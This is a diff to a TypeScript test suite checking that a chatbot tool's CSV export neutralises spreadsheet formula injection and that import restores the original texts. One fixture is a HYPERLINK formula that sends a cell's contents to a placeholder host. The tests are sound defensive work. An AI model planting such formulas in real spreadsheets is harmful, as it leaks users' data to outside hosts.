@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { createTestContext, signUpAdmin, type TestContext } from '../../../test/helpers';
-import { parseCsv, toCsv } from './csv';
+import { fromSpreadsheetCell, parseCsv, toCsv, toSpreadsheetCell } from './csv';
 import { body, client, sampleTag, snapshotTables, type Client } from './testing';
 
 let ctx: TestContext;
@@ -36,6 +36,24 @@ const TRICKY = [
     responses: ['Pagi itu, di Pegangsaan Timur 56.'],
   },
   { tag: '"kutipan"', input: ['"', '""', ','], responses: ["'tunggal'"] },
+];
+
+/** Texts a spreadsheet would evaluate, and texts that genuinely start with a single quote. */
+const FORMULAS = [
+  {
+    tag: '=rumus',
+    input: [
+      '=HYPERLINK("http://contoh.test/?d="&A1,"klik")',
+      '+62 812 0000',
+      '-2+3',
+      '@SUM(1,1)',
+      "'=sudah dikutip",
+      "'biasa saja",
+      "''",
+      'teks biasa',
+    ],
+    responses: ['=1+1', "'+ tetap"],
+  },
 ];
 
 async function fill(nama: string, tags: typeof TRICKY) {
@@ -76,6 +94,27 @@ describe('export', () => {
         '"sapaan, resmi",input,"Selamat pagi\r\nPak"\r\n' +
         '"sapaan, resmi",response,"Merdeka! ""Bersatu kita teguh"""\r\n' +
         '"sapaan, resmi",response,"Salam, kawan — semoga sehat. 🇮🇩"\r\n',
+    );
+  });
+
+  it('CSV cells that a spreadsheet would run as a formula start with a single quote', async () => {
+    await fill('Hatta', FORMULAS);
+    const res = await admin.get('/api/chatbot/export/Hatta?format=csv');
+    expect(res.statusCode).toBe(200);
+    const cells = parseCsv(res.body).flatMap((r) => r.fields);
+    // No cell starts a formula: a spreadsheet shows every one of them as text.
+    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+    expect(cells).toEqual(
+      expect.arrayContaining([
+        "'=rumus",
+        `'=HYPERLINK("http://contoh.test/?d="&A1,"klik")`,
+        "'+62 812 0000",
+        "'-2+3",
+        "'@SUM(1,1)",
+        "''=sudah dikutip",
+        "'biasa saja",
+        "''",
+      ]),
     );
   });
 
@@ -123,6 +162,18 @@ describe('import', () => {
     expect(body(res).data).toMatchObject({ tagsCreated: 3, errors: [], warnings: [] });
     expect(stripIds(await admin.list('Hatta'))).toEqual(original);
     expect((await admin.get('/api/chatbot/export/Hatta?format=csv')).body).toBe(csv);
+  });
+
+  it('CSV import gives back the exact texts behind neutralised formula cells', async () => {
+    await fill('Hatta', FORMULAS);
+    const original = stripIds(await admin.list('Hatta'));
+    expect(original[0]?.input).toContain("'=sudah dikutip");
+    const csv = (await admin.get('/api/chatbot/export/Hatta?format=csv')).body;
+    await admin.clear('Hatta');
+    const res = await admin.post('/api/chatbot/import/Hatta', { format: 'csv', content: csv });
+    expect(res.statusCode).toBe(200);
+    expect(body(res).data).toMatchObject({ tagsCreated: 1, errors: [] });
+    expect(stripIds(await admin.list('Hatta'))).toEqual(original);
   });
 
   it('a dry run previews the counts and writes nothing', async () => {
@@ -289,6 +340,29 @@ describe('import', () => {
 });
 
 describe('csv', () => {
+  it('formula neutralisation is undone exactly, for any run of leading quotes', () => {
+    const texts = ['=a', '+a', '-a', '@a', '\ta', '\ra', "'=a", "''=a", "'a", "''", "'", 'a=b', ''];
+    for (const t of texts) {
+      expect(fromSpreadsheetCell(toSpreadsheetCell(t))).toBe(t);
+      expect(toSpreadsheetCell(t)).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    expect(texts.map(toSpreadsheetCell)).toEqual([
+      "'=a",
+      "'+a",
+      "'-a",
+      "'@a",
+      "'\ta",
+      "'\ra",
+      "''=a",
+      "'''=a",
+      "'a",
+      "''",
+      "'",
+      'a=b',
+      '',
+    ]);
+  });
+
   it('round-trips any texts, including quotes, commas and line breaks', () => {
     const records = [
       ['tag', 'kind', 'text'],
